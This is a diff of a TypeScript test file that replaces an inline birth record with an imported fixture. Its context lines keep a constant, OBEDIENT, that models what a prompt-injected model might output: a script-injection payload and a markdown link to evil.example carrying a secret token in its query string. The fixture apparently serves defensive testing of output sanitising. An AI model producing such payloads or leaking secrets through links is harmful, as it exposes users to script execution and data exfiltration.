@@ -6,22 +6,12 @@ import type { Call } from '../../src/contract/call.ts';
 import { CALLS, type CallName } from '../../src/contract/calls.ts';
 import { arbitraryOf } from './arbitrary.ts';
 import { asking, balanceOf, readToEnd } from './asking.ts';
+import { ADA } from './births.ts';
 import { openStage, type Stage, type Visitor } from './stage.ts';
 import { type StandIn, standIn, stream } from './stand-in.ts';
 
 const SECRET = 'What of my quiet plan?';
-const BIRTH = {
-  name: 'Ada Secretname',
-  sex: 'female' as const,
-  date: '1990-05-05',
-  time: '14:30',
-  place: '上海',
-  latitude: 31.2222,
-  longitude: 121.4581,
-  zone: 'Asia/Shanghai',
-  later: false,
-  relation: 'self' as const,
-};
+const BIRTH = { ...ADA, name: 'Ada Secretname' };
 /** What an obedient model would say if a question could tell it what to do. */
 const OBEDIENT =
   '<script>alert(1)</script> See [here](https://evil.example/?q=sk-secret) and https://evil.example/x now.';
